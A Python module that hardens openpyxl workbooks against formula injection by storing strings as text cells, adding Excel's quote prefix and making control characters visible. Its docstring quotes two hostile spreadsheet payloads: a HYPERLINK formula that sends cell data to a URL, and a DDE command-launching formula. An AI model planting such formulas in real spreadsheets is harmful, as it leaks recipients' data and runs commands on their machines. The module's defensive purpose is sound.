"""Text stays text in every workbook the toolkit writes.

A ledger's text comes from other people's spreadsheets and is hostile until proven otherwise:
a problem description ``=HYPERLINK("http://…?x="&A1,"点击")`` or ``=cmd|' /C calc'!A0`` would
become a live formula in the workbook we hand to a county, and a control character makes
openpyxl refuse to save at all. Every writer (export, rejects, reports, the tracker's download)
puts its cells through :func:`cell_value` / :func:`text_cell` / :func:`guard_sheet`:

* a string is always stored as a string cell (``t="s"`` / ``inlineStr``), never a formula;
* one that begins with ``=``, ``+``, ``-``, ``@``, tab or CR also gets Excel's *quote prefix*
  style, so even editing the cell in Excel (F2, Enter) keeps it text;
* characters XML 1.0 cannot hold (C0 controls other than tab, LF, CR) are shown as their
  Unicode control pictures (U+0007 -> ␇): visible to the reader, and the save never fails.

The stored value is otherwise the exact text, so exporting and importing again gives back the
same records.
"""

from __future__ import annotations

import re
from typing import Any

from openpyxl.cell import WriteOnlyCell

FORMULA_STARTERS = ("=", "+", "-", "@", "\t", "\r")
_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def visible_controls(text: str) -> str:
    """``a\\x07b`` -> ``a␇b``: characters a workbook cannot store, shown as control pictures."""
    return _ILLEGAL.sub(lambda m: chr(0x2400 + ord(m.group())), text)


def needs_quote_prefix(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTERS)


def cell_value(value: Any) -> Any:
    """A value ready to assign to a cell: strings cleaned of unstorable characters."""
    return visible_controls(value) if isinstance(value, str) else value


def harden(cell) -> Any:
    """Make an already-filled cell safe: a string is a string cell, never a formula."""
    if isinstance(cell.value, str):
        if _ILLEGAL.search(cell.value):
            cell.value = visible_controls(cell.value)
        cell.data_type = "s"
        if needs_quote_prefix(cell.value):
            cell.quotePrefix = True
    return cell


def text_cell(ws, value: Any) -> WriteOnlyCell:
    """A cell for a write-only sheet (``ws.append([...])``) holding ``value`` safely."""
    return harden(WriteOnlyCell(ws, cell_value(value)))


def set_cell(ws, row: int, column: int, value: Any):
    """``ws.cell(row, column, value)`` for a normal sheet, safely; returns the cell."""
    cell = ws.cell(row=row, column=column)
    cell.value = cell_value(value)
    return harden(cell)


def guard_sheet(ws) -> None:
    """Harden every cell of a normal (not write-only) sheet: the catch-all before ``save``,
    for sheets filled by other code (pandas ``to_excel``, ``ws.append``)."""
    for row in ws.iter_rows():
        for cell in row:
            if isinstance(cell.value, str):
                harden(cell)


def guard_workbook(wb) -> None:
    """:func:`guard_sheet` on every sheet of a normal workbook."""
    for ws in wb.worksheets:
        guard_sheet(ws)


def formula_cells(workbook_path_or_file) -> list[str]:
    """``Sheet!A1`` of every formula cell in a saved workbook (tests and ``verify`` use it)."""
    import openpyxl

    wb = openpyxl.load_workbook(workbook_path_or_file, read_only=False)
    found = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    found.append(f"{ws.title}!{cell.coordinate}")
    return found


__all__ = [
    "FORMULA_STARTERS",
    "cell_value",
    "formula_cells",
    "guard_sheet",
    "guard_workbook",
    "harden",
    "needs_quote_prefix",
    "set_cell",
    "text_cell",
    "visible_controls",
]
